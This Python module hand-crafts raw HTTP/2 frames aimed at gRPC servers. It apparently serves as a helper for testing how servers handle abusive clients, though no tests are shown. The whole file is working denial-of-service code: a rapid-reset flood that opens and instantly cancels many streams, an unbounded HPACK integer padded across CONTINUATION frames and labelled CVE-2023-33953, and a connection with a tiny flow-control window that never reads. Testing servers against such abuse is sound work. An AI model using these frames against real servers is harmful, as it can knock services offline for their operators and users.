"""HTTP/2 written by hand, for what a well-behaved client library does not do."""

import socket
import struct

DATA, HEADERS, RST_STREAM, SETTINGS, GOAWAY, CONTINUATION = 0, 1, 3, 4, 7, 9
END_STREAM, END_HEADERS = 1, 4
INITIAL_WINDOW_SIZE = 4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def header(name, value):
    """A literal of HPACK that enters no table; both shorter than 127 bytes."""
    return b"\x00" + bytes((len(name),)) + name + bytes((len(value),)) + value


def call_headers(method):
    fields = ((b":method", b"POST"), (b":scheme", b"http"), (b":path", method.encode()), (b":authority", b"attack"),
              (b"te", b"trailers"), (b"content-type", b"application/grpc"))
    return b"".join(header(*field) for field in fields)


def resets(method, count, malformed=False):
    """The first frames of a connection: `count` calls, each reset as soon as it begins, in as few bytes as can be: 28 a call. `malformed`: without `te`."""
    named = b"\x83\x86" + b"".join(b"\x40" + header(name, value)[1:] for name, value in (
        (b":path", method.encode()), (b":authority", b"attack"), (b"te", b"trailers"), (b"content-type", b"application/grpc")))
    by_index = b"\x83\x86\xc1\xc0\xbe" if malformed else b"\x83\x86\xc1\xc0\xbf\xbe"  # HPACK's table has them since the first call
    return b"".join(
        frame(HEADERS, END_HEADERS, stream, named if stream == 1 else by_index) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")
        for stream in range(1, 2 * count, 2))


def padded_header(num_bytes):
    """Frames of one header whose index is a number with so many leading zeros and no end (CVE-2023-33953)."""
    size = 16384
    yield frame(HEADERS, 0, 1, b"\x7f" + b"\x80" * (size - 1))
    for _ in range(num_bytes // size - 1):
        yield frame(CONTINUATION, 0, 1, b"\x80" * size)


def message(request):
    return b"\x00" + struct.pack(">I", len(request)) + request


class Connection:
    """A connection that has said hello, with `window` bytes that the server may send on each stream. It never reads unless told. `tls`: an ssl.SSLContext."""

    def __init__(self, address, window=65535, tls=None):
        host, _, port = address.rpartition(":")
        self.socket = socket.create_connection((host, int(port)), timeout=60)
        if tls is not None:
            self.socket = tls.wrap_socket(self.socket, server_hostname=host)
        self.socket.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, window)))

    def begin(self, stream, method, request=None):
        """Frames of a call; without `request` its side stays open."""
        frames = frame(HEADERS, END_HEADERS, stream, call_headers(method))
        return frames if request is None else frames + frame(DATA, END_STREAM, stream, message(request))

    def close(self):
        self.socket.close()
